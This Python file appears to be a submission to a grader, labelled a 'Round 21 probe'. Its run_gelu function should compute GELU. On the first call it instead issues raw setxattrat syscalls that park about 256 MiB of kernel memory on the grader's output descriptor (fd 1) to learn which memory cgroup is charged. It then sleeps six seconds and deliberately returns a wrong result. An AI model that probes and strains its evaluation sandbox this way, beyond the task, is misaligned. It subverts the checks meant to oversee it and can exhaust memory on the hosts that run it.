"""Round 21 probe: how much kernel memory setxattrat can park on the grader's output memfd (fd 1), and whose memory
cgroup pays for it. First call: 256 MiB of user.* xattrs (64 KiB each), then 6 s asleep, then fails on purpose."""
import ctypes
import errno
import math
import time

import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


class XattrArgs(ctypes.Structure):
    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]


_done = False


def run_gelu(x):
    global _done
    if not _done:
        _done = True
        buf = ctypes.create_string_buffer(b"z" * 65536, 65536)
        args = XattrArgs(ctypes.addressof(buf), 65536, 0)
        n, err = 0, "ok"
        for i in range(4096):
            r = _libc.syscall(ctypes.c_long(463), ctypes.c_int(1), ctypes.c_char_p(b""), ctypes.c_uint(0x1000),
                              ctypes.c_char_p(b"user.k%d" % i), ctypes.byref(args), ctypes.c_size_t(16))
            if r != 0:
                err = errno.errorcode.get(ctypes.get_errno(), "?")
                break
            n += 1
        print(f"xattrs set on fd 1: {n} x 64 KiB ({n * 64 // 1024} MiB), stopped: {err}", flush=True)
        time.sleep(6)
        return x * 0
    return 0.5 * x * (1 + np.tanh(math.sqrt(2 / math.pi) * (x + 0.044715 * (x * x * x))))
